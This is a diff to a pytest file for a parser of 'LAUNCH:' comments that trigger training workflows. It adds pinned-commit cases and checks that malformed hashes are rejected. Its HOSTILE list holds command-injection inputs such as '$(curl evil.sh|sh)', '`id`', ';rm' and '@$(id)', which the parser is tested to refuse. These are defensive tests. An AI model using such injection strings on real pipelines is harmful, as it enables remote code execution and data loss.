@@ -25,8 +25,19 @@ WORKFLOWS = ["logistic_regression", "train"]
         ),
         ("LAUNCH: train tag=user@team:v1%2", LaunchRequest("train", ("tag=user@team:v1%2",))),
         ("LAUNCH: train empty=", LaunchRequest("train", ("empty=",))),
+        ("LAUNCH: train lr=0.1 @1a2b3c4", LaunchRequest("train", ("lr=0.1",), "1a2b3c4")),
+        (f"LAUNCH: train @{'ab' * 20}\r\n", LaunchRequest("train", (), "ab" * 20)),
     ],
-    ids=["bare", "one-override", "hydra-prefixes", "path", "punctuation", "empty-value"],
+    ids=[
+        "bare",
+        "one-override",
+        "hydra-prefixes",
+        "path",
+        "punctuation",
+        "empty-value",
+        "pinned-short",
+        "pinned-full",
+    ],
 )
 def test_valid_bodies(body: str, expected: LaunchRequest) -> None:
     request = parse_comment(body, WORKFLOWS)
@@ -36,6 +47,11 @@ def test_valid_bodies(body: str, expected: LaunchRequest) -> None:
 
 
 HOSTILE = [
+    ("LAUNCH: train @1A2B3C4", "must name the commit"),
+    ("LAUNCH: train @abc", "must name the commit"),
+    (f"LAUNCH: train @{'a' * 41}", "must name the commit"),
+    ("LAUNCH: train @1a2b3c4 lr=0.1", "is not an override"),
+    ("LAUNCH: train @$(id)", "must name the commit"),
     ("LAUNCH: train model.C=$(curl evil.sh|sh)", "not allowed"),
     ("LAUNCH: train model.C=`id`", "not allowed"),
     ("LAUNCH: train model.C=1;rm", "not allowed"),
